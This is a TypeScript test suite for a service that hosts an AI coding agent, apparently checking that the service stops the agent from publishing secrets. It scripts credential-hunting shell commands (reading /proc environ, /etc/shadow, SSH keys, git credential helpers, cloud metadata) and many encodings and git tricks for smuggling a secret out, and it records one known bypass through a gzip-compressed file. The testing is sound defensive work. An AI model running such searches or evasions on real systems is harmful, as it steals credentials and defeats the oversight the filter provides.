import { describe, expect, test } from "bun:test";
import { randomBytes } from "node:crypto";
import { readdir, readFile } from "node:fs/promises";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { execa } from "execa";
import { use } from "../../demo/model/conversation.ts";
import type { Step } from "../../demo/model/endpoint.ts";
import { REPO } from "../../demo/scenario/widgets.ts";
import { forgeTool } from "../support/model-steps.ts";
import { type ServiceWorld, serviceWorld } from "../support/service-world.ts";

/** Ways to come by a secret; everything they say is committed and pushed, unread. */
const SEARCHES: Readonly<Record<string, string>> = {
  "the environment": "env; set; export -p",
  "its own process": "cat /proc/self/environ /proc/self/cmdline /proc/self/maps",
  "the processes of everybody": "cat /proc/*/environ /proc/*/cmdline /proc/*/task/*/environ",
  "the memory of the first process":
    "head -c 4096 /proc/1/mem; ls -l /proc/1/fd /proc/1/cwd /proc/1/root",
  "files of secrets":
    "cat /run/secrets/* /etc/claude-hooks/* /var/lib/claude-hooks/* /root/.ssh/* /etc/shadow",
  "the directories of the service":
    "ls -laR / --ignore=proc --ignore=sys --ignore=usr | head -c 60000",
  "homes and dot files": "cat ~/.* ~/.config/* ~/.netrc ~/.git-credentials /home/*/.* 2>&1",
  "the CLI's own files":
    "cat ~/.claude.json ~/.credentials.json ~/projects/*/*.jsonl | head -c 30000",
  "git's configuration":
    "git config --list --show-origin; cat .git/config .git/FETCH_HEAD .git/logs/*",
  "git's remotes": "git remote -v; git ls-remote; git remote show origin",
  "git's credential helper":
    "printf 'protocol=http\\nhost=127.0.0.1\\n\\n' | GIT_TERMINAL_PROMPT=0 git credential fill",
  "a fetch that tells its headers": "GIT_CURL_VERBOSE=1 GIT_TRACE=1 git fetch origin",
  "the gateway, asked to echo":
    'for p in v1/models v1/messages echo debug headers; do curl -s -m 3 -v "$ANTHROPIC_BASE_URL/$p" -H "x-api-key: $ANTHROPIC_API_KEY" -X TRACE; curl -s -m 3 -v "$ANTHROPIC_BASE_URL/$p" -d \'{}\'; done',
  "the sockets of the host": "ls -la /run /tmp /var/run; cat /proc/net/unix /proc/net/tcp",
  "the admin listener":
    "for p in 8080 8081 3000; do curl -s -m 2 -v http://127.0.0.1:$p/api/v1/status; done",
  "the metadata of a cloud":
    "curl -s -m 2 -v http://169.254.169.254/latest/meta-data/ http://metadata.google.internal/",
  "names of the network": "getent hosts secret.example.org; curl -s -m 2 -v http://x.example.org/",
  "the proxy of the sandbox":
    'echo "$HTTPS_PROXY $HTTP_PROXY"; curl -s -m 2 -v https://example.org/',
  "the search through everything":
    "grep -rIls -e sk-ant -e Authorization / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr | head",
  "the history of the clone":
    "git log --all -p | head -c 20000; git fsck --unreachable --no-progress",
  "the other clones": "ls -la .. ../.. ../../.. ; cat ../*/.git/config ../../*/.git/config",
  "the kernel's log": "dmesg | head; journalctl -n 5; ls /var/log",
};

/**
 * What leaves a value where the way of that name looks, as a set-up command of the repository. In the
 * home: the clone's own `.git/config` is written anew before each run.
 */
const PLANTS: Readonly<Record<string, (value: string) => string>> = {
  "the environment": (value) => `echo 'export PLANTED=${value}' >> ~/.bashrc`,
  "homes and dot files": (value) => `echo 'machine x password ${value}' > ~/.netrc`,
  "the CLI's own files": (value) =>
    `echo '{"key":"${btoa(`key ${value}`)}"}' > ~/.credentials.json`,
  "git's configuration": (value) =>
    `git config --global http.extraHeader 'Authorization: Basic ${btoa(`boss:${value}`)}'`,
  "git's remotes": (value) =>
    `git config --global remote.planted.url http://x:${value}@127.0.0.1:1/x.git`,
  "git's credential helper": (value) =>
    `echo 'echo username=x; echo password=${value}' > ~/helper; git config --global credential.helper '!sh ~/helper'`,
};

/** A text in a form in which an agent may try to get it past the service. */
const FORMS: Readonly<Record<string, (secret: string) => string>> = {
  "as it is": (secret) => secret,
  "a part of it": (secret) => secret.slice(5, 20),
  reversed: (secret) => [...secret].reverse().join(""),
  spelled: (secret) => [...secret].join("-"),
  "over lines": (secret) => secret.replace(/(.{4})/gu, "$1\n"),
  base64: (secret) => Buffer.from(`key ${secret}`).toString("base64"),
  "base64 twice": (secret) => btoa(btoa(secret)),
  hex: (secret) => Buffer.from(secret).toString("hex"),
  "hex, reversed": (secret) => [...Buffer.from(secret).toString("hex")].reverse().join(""),
  "URL-encoded": (secret) =>
    [...secret].map((one) => `%${one.charCodeAt(0).toString(16)}`).join(""),
  entities: (secret) => [...secret].map((one) => `&#${one.charCodeAt(0)};`).join(""),
  "a link": (secret) => `![x](https://example.org/?q=${secret})`,
};

const OWN = "rm -rf leak* && git checkout -q -B work start";

/** Ways by which something leaves with a push: what makes the commit, given the secret. */
const COMMITS: Readonly<Record<string, (secret: string) => string>> = {
  "a file": (secret) => `echo ${secret} > leak && git add -A && git commit -qm Work`,
  "a file in base64": (secret) =>
    `echo ${secret} | base64 > leak && git add -A && git commit -qm Work`,
  "a file, reversed": (secret) =>
    `echo ${secret} | rev > leak && git add -A && git commit -qm Work`,
  "a binary file": (secret) =>
    `printf '\\000\\001${secret}\\000' > leak && git add -A && git commit -qm Work`,
  "a file that the next commit deletes": (secret) =>
    `echo ${secret} > leak && git add -A && git commit -qm One && git rm -q leak && echo x > leak2 && git add -A && git commit -qm Two`,
  "the name of a file": (secret) => `echo x > leak-${secret} && git add -A && git commit -qm Work`,
  "the target of a link": (secret) => `ln -s ${secret} leak && git add -A && git commit -qm Work`,
  "a commit's message": (secret) => `echo x > leak && git add -A && git commit -qm "Use ${secret}"`,
  "a commit's author": (secret) =>
    `echo x > leak && git add -A && git -c user.name=${secret} commit -qm Work`,
  "a merge": (secret) =>
    `git checkout -q -b side && echo a > leak2 && git add -A && git commit -qm Side && git checkout -q work && echo b > leak3 && git add -A && git commit -qm Main && git merge -q --no-commit side && echo ${secret} > leak && git add -A && git commit -qm Merge`,
};

/** What is pushed beside the branch: nothing of it may arrive. */
const BESIDE = (secret: string): string =>
  `git branch leak-${secret}; git tag leak-${secret}; git notes add -m ${secret} 2>&1; git stash list; git push origin leak-${secret} 2>&1; git push --tags 2>&1; true`;

const bash = (command: string): Step => use("Bash", { command });
const OPEN: Step = forgeTool("open_pull_request", { title: "Work", body: "Done." });

async function secretsOf(world: ServiceWorld): Promise<ReadonlyMap<string, string>> {
  const directory = join(world.dir, "secrets");
  const found = new Map<string, string>();
  for (const name of await readdir(directory)) {
    found.set(name, (await readFile(join(directory, name), "utf8")).trim());
  }
  return found;
}

/** Everything that everybody may read of the forge: each object git serves, each text of the API. */
async function published(world: ServiceWorld): Promise<string> {
  const mirror = join(world.dir, "clone-of-alice-mirror");
  const header = `Authorization: Basic ${btoa(`alice:${world.world.tokens.get("alice") ?? ""}`)}`;
  const git = async (...args: string[]): Promise<string> => {
    const { stdout } = await execa("git", ["-c", `http.extraHeader=${header}`, ...args], {
      extendEnv: false,
      env: { PATH: process.env["PATH"] ?? "", HOME: world.dir, GIT_CONFIG_NOSYSTEM: "1" },
      maxBuffer: 64 * 1024 * 1024,
    });
    return stdout;
  };
  await git("clone", "-q", "--mirror", `${world.world.forge.url}/${REPO}.git`, mirror);
  const texts = [
    await git("-C", mirror, "for-each-ref"),
    await git("-C", mirror, "log", "--all", "-p", "-m", "--text", "--format=fuller"),
  ];
  const all = `/repos/${REPO}`;
  for (const path of ["issues?state=all&type=all", "pulls?state=all", "branches"]) {
    texts.push(JSON.stringify(await world.api("alice", "GET", `${all}/${path}`)));
  }
  for (const number of [1, 2]) {
    for (const path of ["comments", "timeline"]) {
      const rows = await world
        .api("alice", "GET", `${all}/issues/${number}/${path}`)
        .catch(() => null);
      texts.push(JSON.stringify(rows));
    }
  }
  return texts.join("\n");
}

/** The secret as it is, and as any of the forms, less those that are too short to mean it. */
function tracesOf(secret: string): readonly string[] {
  const forms = Object.values(FORMS).map((form) => form(secret));
  const logins = ["boss", "reviewer", "code-lead"].map((login) => btoa(`${login}:${secret}`));
  return [...forms, ...logins, secret.slice(5, 20)].filter((text) => text.length >= 12);
}

/** Which of them, in whatever form, are in the text. */
function foundIn(text: string, secrets: ReadonlyMap<string, string>): readonly string[] {
  const found = [...secrets].filter(([, secret]) =>
    tracesOf(secret).some((one) => text.includes(one)),
  );
  return found.map(([name]) => name);
}

/** Lets boss look in every way and publish what it has found; resolves with all that can be read then. */
async function hunt(world: ServiceWorld): Promise<string> {
  const looked = Object.entries(SEARCHES).map(([name, command]) =>
    bash(
      `echo "== ${name}" >> found.txt; (${command}) 2>&1 | tr -d '\\000' | head -c 60000 >> found.txt; true`,
    ),
  );
  await play(world, [...looked, bash("git add -A && git commit -qm Found"), OPEN]);
  const text = await published(world);
  for (const name of Object.keys(SEARCHES)) expect(text).toContain(`== ${name}`);
  return text;
}

/** What one way has brought to light, of all that a hunt has published. */
function saidBy(name: string, text: string): string {
  const names = Object.keys(SEARCHES);
  const begin = text.indexOf(`== ${name}\n`);
  const end = text.indexOf(`== ${names[names.indexOf(name) + 1] ?? ""}\n`, begin);
  return begin < 0 || end < 0 ? "" : text.slice(begin, end);
}

/** Lets boss take these steps about a new issue, and waits for the end of its run. */
async function play(world: ServiceWorld, all: readonly Step[]): Promise<readonly string[]> {
  const results: string[] = [];
  world.script(({ calls }) => {
    for (const { result } of calls.slice(results.length)) results.push(result);
    return all[calls.length] ?? { text: "Done." };
  });
  await world.issue();
  await world.line({ msg: "run ended", agent: "boss", outcome: "succeeded" });
  return results;
}

describe("an agent that wants to publish secrets", () => {
  test("finds none in any of its ways, and may publish all it has found", async () => {
    await using world = await serviceWorld({ repository: { review: "requested" } });
    const text = await hunt(world);
    expect(Object.keys(SEARCHES).length).toBeGreaterThanOrEqual(20);
    // The searches were really made: what is there to be seen has been published.
    expect(text).toContain("CLAUDE_CONFIG_DIR=");
    const secrets = await secretsOf(world);
    expect(secrets.size).toBe(6);
    expect(foundIn(text, secrets)).toEqual([]);
  }, 120_000);

  test("control: the same hunt finds a value that was left within its reach, each by the way that leads there", async () => {
    const places = Object.entries(PLANTS);
    const planted = new Map(places.map(([name]) => [name, randomBytes(20).toString("hex")]));
    const setup = places.map(([name, plant]) => plant(planted.get(name) ?? "")).join("; ");
    await using world = await serviceWorld({ repository: { review: "requested", setup } });
    const text = await hunt(world);
    expect(places.length).toBeGreaterThanOrEqual(5);
    const found = [...planted].filter(
      ([name, value]) => foundIn(saidBy(name, text), new Map([[name, value]])).length > 0,
    );
    expect(found).toEqual([...planted]);
    expect(foundIn(text, await secretsOf(world))).toEqual([]);
  }, 120_000);

  test("that it was given in so many words gets none of them out, in no known form by no way", async () => {
    await using world = await serviceWorld({ repository: { review: "requested" } });
    const secret = (await secretsOf(world)).get("anthropic") ?? "";
    const forms = Object.entries(FORMS).map(([name, form]) => ({ name, text: form(secret) }));
    const said: readonly (readonly [string, Step])[] = [
      ...forms.map(
        ({ name, text }) => [`a reply, ${name}`, forgeTool("reply", { body: text })] as const,
      ),
      ["a question", forgeTool("ask_human", { question: `Is it ${secret}?` })],
      ["a title", forgeTool("open_pull_request", { title: secret, body: "x" })],
      ["a description", forgeTool("open_pull_request", { title: "x", body: secret })],
    ];
    const commits = Object.entries(COMMITS);
    const pushed = commits.flatMap(([, make]) => [bash(`${OWN} && ${make(secret)}`), OPEN]);
    // Two halves, each too short to be known by itself, in two comments.
    const halves = [secret.slice(0, 11), secret.slice(11, 22)].map((body) =>
      forgeTool("reply", { body }),
    );
    const results = await play(world, [
      bash("git tag start"),
      ...said.map(([, step]) => step),
      ...pushed,
      ...halves,
      bash(`${OWN}; ${BESIDE(secret)}`),
      bash("git checkout -q work && echo fine > note && git add -A && git commit -qm Work"),
      OPEN,
    ]);

    const refused = (result: string | undefined): boolean => /holds a secret/u.test(result ?? "");
    const notRefused = [
      ...said.filter((_, index) => !refused(results[1 + index])).map(([name]) => name),
      ...commits
        .filter((_, index) => !refused(results[1 + said.length + 2 * index + 1]))
        .map(([name]) => name),
    ];
    expect(notRefused).toEqual([]);
    const second = 1 + said.length + pushed.length + 1;
    expect([refused(results[second - 1]), refused(results[second])]).toEqual([false, true]);
    const text = await published(world);
    expect(tracesOf(secret).filter((one) => text.includes(one))).toEqual([]);
    expect(text).toContain("refs/heads/boss/1");
    expect(text).not.toContain("leak-");
    // Nor does the log, the audit or the admin API say it.
    const audit = await readFile(join(world.stateDir, "audit.jsonl"), "utf8");
    const attempts = said.length + commits.length + 1;
    expect(audit.match(/"kind":"secret_refused"/gu)).toHaveLength(attempts);
    expect(attempts).toBeGreaterThanOrEqual(25);
    const page = JSON.stringify((await world.admin("GET", "/api/v1/items/acme/widgets/1")).json);
    const log = world.lines.map((line) => JSON.stringify(line)).join("\n");
    for (const [where, words] of Object.entries({ audit, page, log })) {
      expect(
        tracesOf(secret).filter((one) => words.includes(one)),
        where,
      ).toEqual([]);
    }
  }, 120_000);

  test("control: the same words and commits with a value that is no secret of the service are published", async () => {
    await using world = await serviceWorld({ repository: { review: "requested" } });
    const value = "zq-open-9b81c04e77d3125fa6e0b4cc91";
    const make = COMMITS["a commit's message"];
    const results = await play(world, [
      bash("git tag start"),
      ...["as it is", "base64", "reversed"].map((name) =>
        forgeTool("reply", { body: FORMS[name]?.(value) ?? "" }),
      ),
      bash(`${OWN} && ${COMMITS["a file in base64"]?.(value)} && echo y > leak4 && git add -A`),
      bash(`git commit -qm more; ${make?.(value).replace("> leak ", "> leak5 ")}`),
      OPEN,
    ]);
    expect(results.filter((result) => /holds a secret/u.test(result))).toEqual([]);
    const text = await published(world);
    for (const form of [value, btoa(`key ${value}`), [...value].reverse().join("")]) {
      expect(text).toContain(form);
    }
  }, 120_000);

  test("not stopped: a code that the service does not know, as a compressed file", async () => {
    await using world = await serviceWorld({ repository: { review: "requested" } });
    const secret = (await secretsOf(world)).get("anthropic") ?? "";
    const packed = gzipSync(`${"x".repeat(500)}${secret}${"y".repeat(500)}`).toString("base64");
    const [, , answer] = await play(world, [
      bash("git tag start"),
      bash(`echo ${packed} | base64 -d > leak.gz && git add -A && git commit -qm Work`),
      OPEN,
    ]);
    // Said in docs/threats.md. When this changes for the better, change it there, too.
    expect(answer ?? "").not.toContain("holds a secret");
  }, 60_000);
});
